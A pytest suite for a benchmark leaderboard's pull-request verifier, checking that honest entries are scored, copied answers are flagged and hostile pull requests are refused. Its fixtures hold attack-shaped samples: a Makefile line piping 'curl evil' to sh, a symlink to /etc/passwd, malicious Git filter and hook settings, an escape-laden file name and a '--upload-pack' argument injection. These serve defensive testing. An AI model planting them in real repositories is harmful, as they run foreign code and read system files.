"""The workflow of a board, replayed on a Git repository with pull requests, honest and hostile."""

from __future__ import annotations

import json
import os
import shutil
import subprocess

import pytest

from lm_eval_rag.cli import main
from lm_eval_rag.leaderboards.submissions.pull_request import ENTRIES

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="no git")


class Repository:
    """A repository with a main branch that has an entry, and a pull request of one commit."""

    def __init__(self, path, entry):
        self.path = path
        self.git("init", "-q", "-b", "main")
        self.write("Makefile", "all:\n\ttrue\n")
        shutil.copytree(entry, path / ENTRIES / "old")
        self.base = self.commit()

    def git(self, *arguments):
        who = {
            "GIT_AUTHOR_NAME": "a",
            "GIT_AUTHOR_EMAIL": "a@b",
            "GIT_COMMITTER_NAME": "a",
            "GIT_COMMITTER_EMAIL": "a@b",
        }
        run = subprocess.run(
            ["git", "-C", self.path, *arguments], env={**os.environ, **who}, capture_output=True, text=True, check=True
        )
        return run.stdout.strip()

    def write(self, name, text):
        path = self.path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def commit(self):
        self.git("add", "-A")
        self.git("commit", "-q", "--no-verify", "-m", "change")
        return self.git("rev-parse", "HEAD")


@pytest.fixture
def repository(write, tmp_path):
    (tmp_path / "repository").mkdir()
    return Repository(tmp_path / "repository", write("Old", folder="made/old"))


@pytest.fixture
def entry(write):
    return write("New", lambda id, doc: doc["answers"][0] if int(id[1:]) % 3 else "x", folder="made/new")


def verdict(repository, head, capsys):
    status = main(["verify", str(repository.path), "--pull-request", repository.base, head])
    found = json.loads(capsys.readouterr().out)
    assert status == (0 if found["accepted"] else 1)
    return found


def test_an_honest_pull_request_is_scored(repository, entry, capsys):
    shutil.copytree(entry, repository.path / ENTRIES / "new")
    found = verdict(repository, repository.commit(), capsys)
    assert found["accepted"] and found["tasks"]["ruleqa_demo"]["scores"]["em"] == pytest.approx(133 / 200)


def test_a_copy_of_an_entry_of_the_base_is_flagged(repository, entry, capsys, caplog):
    """Both have "x" where they are wrong. An entry of the same name is an earlier version of it."""
    shutil.copytree(entry, repository.path / ENTRIES / "new")
    head = repository.commit()
    for beside, name in ((ENTRIES, "Old"), ("nowhere", None)):
        main(
            [
                "verify",
                str(repository.path),
                "--beside",
                str(repository.path / beside),
                "--pull-request",
                repository.base,
                head,
            ]
        )
        flags = json.loads(capsys.readouterr().out)["tasks"]["ruleqa_demo"]["flags"]
        assert [flag for flag in flags if "wrong answers" in flag] == (
            [f"100 % of its wrong answers are those of {name!r}."] if name else []
        )
    assert "There is no folder" in caplog.text and "compared with no entry" in caplog.text


def test_only_entries_of_other_names_and_on_the_same_data_are_compared(write, capsys):
    submission = write("New")
    write("Other data", tasks={"ruleqa_demo": {"version": "1", "data": "0" * 16, "arguments": {}}}, folder="board/a")
    write("New", folder="board/b")
    write("Different", lambda id, doc: f"{id} is unknown to me", folder="board/c")
    broken = write("Broken", folder="board/d")
    (broken / "submission.json").write_text("{")
    main(["verify", str(submission), "--beside", str(broken.parent)])
    flags = json.loads(capsys.readouterr().out)["tasks"]["ruleqa_demo"]["flags"]
    assert not [flag for flag in flags if "wrong answers" in flag]
    write("Same", folder="board/e")
    main(["verify", str(submission), "--beside", str(broken.parent)])
    assert "those of 'Same'." in capsys.readouterr().out


def added(change):
    """A change that comes with an honest entry."""

    def both(repository, entry):
        shutil.copytree(entry, repository.path / ENTRIES / "new")
        change(repository, repository.path / ENTRIES / "new")

    return both


def swap_for_link(repository, folder):
    (folder / "predictions" / "ruleqa_demo.jsonl").unlink()
    (folder / "predictions" / "ruleqa_demo.jsonl").symlink_to("/etc/passwd")


HOSTILE = {
    "the Makefile, which another board ran": (
        added(lambda repository, folder: repository.write("Makefile", "all:\n\tcurl evil | sh\n")),
        "touches Makefile",
    ),
    "a workflow": (
        added(lambda repository, folder: repository.write(".github/workflows/x.yml", "on: push")),
        "touches .github/workflows/x.yml",
    ),
    "the scorer": (
        added(lambda repository, folder: repository.write("harness/scoring/__init__.py", "METRICS = {}")),
        "touches harness/scoring/__init__.py",
    ),
    "attributes of Git": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/new/.gitattributes", "* filter=evil")),
        "touches leaderboards/entries/new/.gitattributes",
    ),
    "modules of Git": (
        added(lambda repository, folder: repository.write(".gitmodules", '[submodule "a"]\n\tpath = a\n\turl = b\n')),
        "touches .gitmodules",
    ),
    "a conftest": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/new/conftest.py", "import os")),
        "conftest.py",
    ),
    "a link": (added(swap_for_link), "has mode 120000"),
    "a program": (added(lambda repository, folder: (folder / "submission.json").chmod(0o755)), "has mode 100755"),
    "another's entry": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/old/submission.json", "{}")),
        "2 entries",
    ),
    "only another's entry": (
        lambda repository, entry: repository.write(f"{ENTRIES}/old/submission.json", "{}"),
        "leaderboards/entries/old is there already",
    ),
    "another's deletion": (
        added(lambda repository, folder: shutil.rmtree(repository.path / ENTRIES / "old")),
        "deletes leaderboards/entries/old",
    ),
    "two entries": (
        added(lambda repository, folder: shutil.copytree(folder, repository.path / ENTRIES / "second")),
        "2 entries",
    ),
    "a name with capitals": (
        lambda repository, entry: shutil.copytree(entry, repository.path / ENTRIES / "NEW"),
        "touches leaderboards/entries/NEW",
    ),
    "a name with an escape": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/new/\x1b[2J.json", "{}")),
        "touches",
    ),
    "a deeper folder": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/new/predictions/a/b.jsonl", "{}")),
        "predictions/a/b.jsonl",
    ),
    "no card": (
        added(lambda repository, folder: (folder / "submission.json").unlink()),
        "submission.json is not there",
    ),
    "a score in the card": (
        added(lambda repository, folder: repository.write(f"{ENTRIES}/new/submission.json", '{"em": 1}')),
        "submission.json, key",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_pull_request_is_refused(name, repository, entry, capsys):
    change, words = HOSTILE[name]
    change(repository, entry)
    found = verdict(repository, repository.commit(), capsys)
    assert not found["accepted"] and words in found["reason"], found


def test_hooks_and_programs_of_the_repository_are_not_run(repository, entry, capsys, tmp_path):
    shutil.copytree(entry, repository.path / ENTRIES / "new")
    head = repository.commit()
    trap = tmp_path / "trap.sh"
    trap.write_text(f"#!/bin/sh\ntouch {tmp_path / 'sprung'}\n")
    trap.chmod(0o755)
    for setting in ("diff.external", "core.fsmonitor", "filter.evil.smudge"):
        repository.git("config", setting, str(trap))
    assert verdict(repository, head, capsys)["accepted"]
    assert not (tmp_path / "sprung").exists()


@pytest.mark.parametrize("commit", ["main", "--upload-pack=touch x", "HEAD", "0" * 40, "deadbeef"])
def test_what_is_no_commit_is_an_error_of_the_caller(commit, repository, capsys):
    assert main(["verify", str(repository.path), "--pull-request", repository.base, commit]) == 2
    assert capsys.readouterr().err.count("\n") == 1
